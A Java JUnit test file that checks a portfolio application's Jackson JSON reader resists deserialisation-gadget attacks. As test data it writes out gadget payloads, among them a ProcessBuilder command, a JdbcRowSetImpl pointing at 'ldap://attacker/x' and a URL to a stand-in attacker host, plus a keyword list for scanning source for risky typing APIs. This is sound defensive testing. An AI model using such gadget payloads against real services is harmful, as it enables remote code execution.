package com.computefolio.reliability;

import static org.assertj.core.api.Assertions.assertThat;

import com.computefolio.domain.DealValidator;
import com.computefolio.io.ReadResult;
import com.computefolio.io.json.PortfolioFileDto;
import com.computefolio.io.json.PortfolioJsonReader;
import com.fasterxml.jackson.annotation.JsonSubTypes;
import com.fasterxml.jackson.annotation.JsonTypeInfo;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.IOException;
import java.lang.reflect.Method;
import java.lang.reflect.ParameterizedType;
import java.lang.reflect.RecordComponent;
import java.lang.reflect.Type;
import java.math.BigDecimal;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Deque;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * A portfolio file cannot make Jackson build an object of a class the file names (the way
 * deserialisation gadgets such as {@code ["java.lang.ProcessBuilder", {...}]} work): the mapper has
 * no default typing, the DTOs have no type information and no field of an open type, and such
 * payloads come back as ordinary located problems.
 */
class JacksonWithoutPolymorphicTypingTest {

    private static final String MAPPER_CLASS = "com.computefolio.io.json.PortfolioJsonMapper";

    @TempDir
    Path dir;

    @ParameterizedTest
    @ValueSource(strings = {"create", "createIgnoringRequired"})
    void theMapperHasNoDefaultTyping(String factory) throws Exception {
        ObjectMapper mapper = mapper(factory);

        assertThat(mapper.getDeserializationConfig().getDefaultTyper(mapper.constructType(Object.class))).isNull();
        assertThat(mapper.getSerializationConfig().getDefaultTyper(mapper.constructType(Object.class))).isNull();
        assertThat(mapper.getDeserializationConfig().getDefaultTyper(mapper.constructType(PortfolioFileDto.class))).isNull();
    }

    @Test
    void everyDtoReachableFromTheFileIsARecordOfConcreteTypesWithoutTypeInformation() {
        List<String> open = new ArrayList<>();
        Set<Class<?>> seen = new HashSet<>();
        Deque<Class<?>> toVisit = new ArrayDeque<>(List.of(PortfolioFileDto.class));
        while (!toVisit.isEmpty()) {
            Class<?> dto = toVisit.pop();
            if (!seen.add(dto)) {
                continue;
            }
            assertThat(dto.isRecord()).as(dto.getName()).isTrue();
            assertThat(dto.getAnnotation(JsonTypeInfo.class)).as(dto.getName()).isNull();
            assertThat(dto.getAnnotation(JsonSubTypes.class)).as(dto.getName()).isNull();
            for (RecordComponent component : dto.getRecordComponents()) {
                for (Class<?> type : typesIn(component.getGenericType())) {
                    if (type.isRecord()) {
                        toVisit.push(type);
                    } else if (!isClosed(type)) {
                        open.add(dto.getSimpleName() + "." + component.getName() + ": " + type.getName());
                    }
                }
                if (component.getAccessor().getAnnotation(JsonTypeInfo.class) != null || hasTypeInfo(dto, component)) {
                    open.add(dto.getSimpleName() + "." + component.getName() + " has @JsonTypeInfo");
                }
            }
        }

        assertThat(seen).hasSizeGreaterThan(5);
        assertThat(open).isEmpty();
    }

    @ParameterizedTest
    @ValueSource(strings = {
        "[\"java.lang.ProcessBuilder\", {\"command\": [\"touch\", \"PWNED\"]}]",
        "{\"format\": \"computefolio-portfolio\", \"formatVersion\": 1,"
                + " \"name\": [\"java.lang.ProcessBuilder\", {\"command\": [\"touch\", \"PWNED\"]}],"
                + " \"sources\": [], \"parties\": [], \"deals\": []}",
        "{\"format\": \"computefolio-portfolio\", \"formatVersion\": 1, \"sources\": [], \"parties\": [],"
                + " \"deals\": [[\"com.sun.rowset.JdbcRowSetImpl\", {\"dataSourceName\": \"ldap://attacker/x\", \"autoCommit\": true}]]}",
        "{\"format\": \"computefolio-portfolio\", \"formatVersion\": 1, \"sources\": [], \"deals\": [],"
                + " \"parties\": [{\"@class\": \"java.lang.ProcessBuilder\", \"command\": [\"touch\", \"PWNED\"]}]}",
        "{\"@type\": \"java.lang.ProcessBuilder\", \"format\": \"computefolio-portfolio\", \"formatVersion\": 1}",
        "{\"format\": \"computefolio-portfolio\", \"formatVersion\": 1, \"sources\": [], \"parties\": [],"
                + " \"deals\": [{\"id\": \"x\", \"notes\": {\"@class\": \"java.net.URL\", \"value\": \"http://attacker/\"}}]}",
    })
    void aFileThatNamesClassesToBuildIsRefusedAsOrdinaryProblems(String payload) throws IOException {
        Path file = Files.writeString(dir.resolve("gadget.json"), payload.replace("PWNED", dir.resolve("pwned").toString()),
                StandardCharsets.UTF_8);

        ReadResult result = new PortfolioJsonReader(new DealValidator()).read(file);

        assertThat(result.portfolio()).isNull();
        assertThat(result.problems()).isNotEmpty().allSatisfy(p -> {
            assertThat(p.file()).isNotBlank();
            assertThat(p.message()).isNotBlank();
        });
        assertThat(dir.resolve("pwned")).doesNotExist();
    }

    @Test
    void noApplicationSourceTurnsOnPolymorphicTyping() throws IOException {
        List<String> found = new ArrayList<>();
        try (Stream<Path> files = Files.walk(Path.of("src/main/java"))) {
            for (Path file : files.filter(p -> p.toString().endsWith(".java")).toList()) {
                String text = Files.readString(file, StandardCharsets.UTF_8);
                for (String risky : List.of("activateDefaultTyping", "enableDefaultTyping", "setDefaultTyping", "JsonTypeInfo",
                        "JsonSubTypes", "PolymorphicTypeValidator", "ObjectInputStream")) {
                    if (text.contains(risky)) {
                        found.add(file + ": " + risky);
                    }
                }
            }
        }

        assertThat(found).isEmpty();
    }

    private static ObjectMapper mapper(String factory) throws Exception {
        Method create = Class.forName(MAPPER_CLASS).getDeclaredMethod(factory);
        create.setAccessible(true);
        return (ObjectMapper) create.invoke(null);
    }

    /**
     * Closed types: nothing in a file can make Jackson pick another class for them. A map (translations by
     * language, ADR 34) is as closed as a list: its keys are strings and its values' type is checked like any other.
     */
    private static boolean isClosed(Class<?> type) {
        return type.isPrimitive() || type.isEnum() || type == String.class || type == Boolean.class || type == Integer.class
                || type == Long.class || type == BigDecimal.class || type == List.class || type == java.util.Map.class;
    }

    private static boolean hasTypeInfo(Class<?> dto, RecordComponent component) {
        try {
            return dto.getDeclaredField(component.getName()).getAnnotation(JsonTypeInfo.class) != null;
        } catch (NoSuchFieldException e) {
            return false;
        }
    }

    /** The raw class and, for List&lt;X&gt;, X as well. */
    private static List<Class<?>> typesIn(Type type) {
        List<Class<?>> types = new ArrayList<>();
        if (type instanceof Class<?> c) {
            types.add(c);
        } else if (type instanceof ParameterizedType p) {
            types.add((Class<?>) p.getRawType());
            for (Type argument : p.getActualTypeArguments()) {
                types.addAll(typesIn(argument));
            }
        } else {
            types.add(Object.class);
        }
        return types;
    }
}
